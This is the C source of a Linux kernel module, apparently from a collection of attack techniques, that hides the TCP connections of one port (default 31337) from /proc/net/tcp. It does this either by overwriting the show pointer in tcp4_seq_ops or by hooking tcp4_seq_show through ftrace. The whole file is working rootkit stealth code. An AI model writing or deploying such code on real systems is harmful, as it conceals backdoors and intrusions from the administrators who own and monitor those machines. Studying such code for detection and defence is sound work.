// SPDX-License-Identifier: GPL-2.0-only
/*
 * Leaves the lines of one port out of /proc/net/tcp, by a pointer in a table (how=pointer)
 * or an ftrace hook (how=ftrace).
 */
#include <linux/seq_file.h>
#include <net/inet_sock.h>

#include "ftrace.h"

static unsigned int port = 31337;
module_param(port, uint, 0);
static char *how = "ftrace";
module_param(how, charp, 0);

static int (*original)(struct seq_file *file, void *socket);
static void **slot;

static int replacement(struct seq_file *file, void *socket)
{
	int r;

	if (socket != SEQ_START_TOKEN && ((struct sock *)socket)->sk_num == port)
		return 0;
	r = original(file, socket);
	barrier(); /* no jump in place of the call */
	return r;
}

static int hook_pointer(void)
{
	struct seq_operations *table = (void *)attack_symbol("tcp4_seq_ops");

	if (!table)
		return -ENOENT;
	slot = (void **)&table->show;
	return attack_write_pointer(slot, replacement);
}

static int change(void)
{
	char name[] = "tcp4_seq_show";

	original = (void *)attack_symbol(name);
	if (!original)
		return -ENOENT;
	return strcmp(how, "pointer") ? ftrace_attach(name, replacement) : hook_pointer();
}

static void restore(void)
{
	if (slot)
		(void)attack_write_pointer(slot, original);
	else
		ftrace_detach();
}

ATTACK(change, restore, "a port that is hidden");
